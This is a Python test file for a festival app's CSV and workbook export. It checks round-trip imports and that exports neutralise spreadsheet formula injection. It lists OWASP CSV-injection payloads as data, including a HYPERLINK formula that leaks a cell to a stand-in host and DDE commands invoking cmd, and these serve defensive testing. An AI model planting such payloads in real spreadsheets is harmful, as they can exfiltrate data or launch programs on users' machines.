"""``festival-api export``: the festival back out as the CSV folder; imported again into a fresh
database, it gives the very same public answers."""
import contextlib
import csv
import datetime
import re

import pytest
from click.testing import CliRunner

import pg_scratch
from app.cli import main as cli
from conftest import ON_POSTGRES, TEST_DATABASE_URL, writable
from db import clock
from db.source import models as m
from db.compiled.tables import READ_MODELS, PublicSecret, create_tables
from seed import bundled_fixtures
from seed.pipeline.export import export_festival
from seed.pipeline.write.importer import import_file

EXAMPLE = "seed/examples/district-fest-csv"
SOURCES = [EXAMPLE, *map(str, bundled_fixtures())]
UUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", re.I)
NOW = datetime.datetime(2026, 1, 18, 12, 0)


@contextlib.contextmanager
def empty_database(tmp_path, name):
    """A writable, empty database with the tables, bound for the block."""
    if ON_POSTGRES:
        with pg_scratch.empty_database(TEST_DATABASE_URL) as url, writable(url) as db:
            create_tables()
            yield db
        return
    with writable(f"sqlite:///{tmp_path / name}.sqlite3") as db:
        create_tables()
        yield db


def comparable(value):
    return bytes(value) if isinstance(value, memoryview) else value  # PostgreSQL's bytea


def public_rows(festival_id):
    """Every compiled row of the festival (what every endpoint answers from), per table."""
    return {model.__name__: sorted(repr(tuple(map(comparable, row)))
                                   for row in model.select().where(model.festival == festival_id).tuples())
            for model in READ_MODELS}


@pytest.fixture
def frozen_clock(monkeypatch):
    """Both imports compute their leaderboards at the same moment (lastComputedAt)."""
    monkeypatch.setattr(clock, "utcnow", lambda: NOW)


@pytest.mark.parametrize("source", SOURCES)
def test_importing_the_export_into_a_fresh_database_gives_the_same_public_rows(source, tmp_path, frozen_clock):
    folder = tmp_path / "export"
    with empty_database(tmp_path, "first"):
        festival = import_file(source).festival
        before = public_rows(festival.id)
        secret = PublicSecret.get(PublicSecret.festival == festival.id).hash_key
        export_festival(festival, folder)
    with empty_database(tmp_path, "second"):
        # The keyed hash of admission numbers (never shown) uses a random key per database.
        PublicSecret.create(festival=festival.id, hash_key=secret)
        again = import_file(folder).festival
        assert again.id == festival.id
        assert public_rows(festival.id) == before
    assert sum(len(rows) for rows in before.values()) > 100


def test_the_export_of_a_festival_with_natural_keys_has_no_ids(tmp_path):
    folder = tmp_path / "export"
    with empty_database(tmp_path, "first"):
        export_festival(import_file(EXAMPLE).festival, folder)
    files = {path.name: path.read_text(encoding="utf-8") for path in folder.glob("*.csv")}
    assert {"festival.csv", "results.csv", "registrations.csv", "websitePages.csv"} <= files.keys()
    assert [name for name, text in files.items() if UUID.search(text)] == []
    with open(folder / "results.csv", newline="", encoding="utf-8") as fh:
        first = next(csv.DictReader(fh))
    assert {"sub_fest_slug", "sub_fest_programme_code", "chest_no", "position"} <= first.keys()
    assert first["published_at"].endswith("+05:30"), "times in the festival's local time, with the offset"


def test_the_cli_exports_to_a_new_folder_and_refuses_one_that_holds_csv_files(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
    with writable(url):
        create_tables()
        import_file(EXAMPLE)
    monkeypatch.setenv("DATABASE_URL", url)
    runner = CliRunner()
    done = runner.invoke(cli, ["export", "district-fest-2026", str(tmp_path / "out")])
    assert done.exit_code == 0, done.output
    assert (tmp_path / "out" / "results.csv").is_file()
    again = runner.invoke(cli, ["export", "district-fest-2026", str(tmp_path / "out")])
    assert again.exit_code == 1 and "already holds CSV files" in again.output
    missing = runner.invoke(cli, ["export", "no-such-fest", str(tmp_path / "other")])
    assert missing.exit_code == 2 and "no festival with slug 'no-such-fest'" in missing.output


# The OWASP CSV-injection payloads: each would run (or start to) in a spreadsheet that opens
# the file, were it written as it is.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for results")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
# Not formulas, yet they must come back as they were: an apostrophe of their own, a number.
KEPT = ["'=already quoted", "''two", "'plain", "-5"]


def festival_with_payloads():
    from natural_festival import natural_festival

    data = natural_festival()
    names = PAYLOADS + KEPT
    for n, name in enumerate(names, start=1):
        if n <= len(data["candidates"]):
            data["candidates"][n - 1]["name"] = name
        else:
            data["candidates"].append({"admission_number": f"ADM-{n}", "name": name})
    data["news"].append({"title": "=1+1", "summary": "+cmd|' /C calc'!A0", "status": "published",
                         "published_at": "2026-01-02T00:00:00Z"})
    return data


def test_an_exported_csv_never_holds_a_cell_a_spreadsheet_would_run(tmp_path, frozen_clock):
    from seed.pipeline.write.importer import import_fixture

    folder = tmp_path / "export"
    with empty_database(tmp_path, "first"):
        festival = import_fixture(festival_with_payloads()).festival
        before = public_rows(festival.id)
        secret = PublicSecret.get(PublicSecret.festival == festival.id).hash_key
        export_festival(festival, folder)
    cells = []
    for path in folder.glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
        assert payload not in cells, payload
    assert [cell for cell in cells if cell and (cell[0] in "=+@\t\r" or (
        cell[0] == "-" and not re.fullmatch(r"-[\d.]+", cell)))] == []
    assert {"''=already quoted", "'''two", "'plain", "-5"} <= set(cells)
    with empty_database(tmp_path, "second"):
        PublicSecret.create(festival=festival.id, hash_key=secret)
        import_file(folder)
        assert public_rows(festival.id) == before, "the importer takes the apostrophe off again"
        names = {c.name for c in m.Candidate.select()}
    assert set(PAYLOADS + KEPT) <= names


def test_an_exported_workbook_holds_them_as_text_and_imports_to_the_same_names(tmp_path, frozen_clock):
    """A workbook's cell is XML text, where a carriage return reads back as a line feed
    (openpyxl writes it as it is): that payload comes back with ``\\n``, every other as it was."""
    import zipfile

    from openpyxl import load_workbook

    from seed.pipeline.write.importer import import_fixture
    from seed.pipeline.read.workbook import folder_as_workbook

    book, remade = tmp_path / "festival.xlsx", tmp_path / "from-folder.xlsx"
    with empty_database(tmp_path, "first"):
        festival = import_fixture(festival_with_payloads()).festival
        export_festival(festival, book)
        export_festival(festival, tmp_path / "folder")
    folder_as_workbook(tmp_path / "folder", remade)
    expected = {name.replace("\r", "\n") for name in PAYLOADS + KEPT}
    for n, path in enumerate((book, remade)):
        with zipfile.ZipFile(path) as archive:
            sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets), "no formula in any cell"
        cells = {c.value: c for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for c in row
                 if isinstance(c.value, str)}
        for payload in expected - set(KEPT):
            assert cells[payload].data_type == "s" and cells[payload].quotePrefix, (path.name, payload)
        with empty_database(tmp_path, f"again{n}"):
            import_file(path)
            assert expected <= {c.name for c in m.Candidate.select()}, path.name
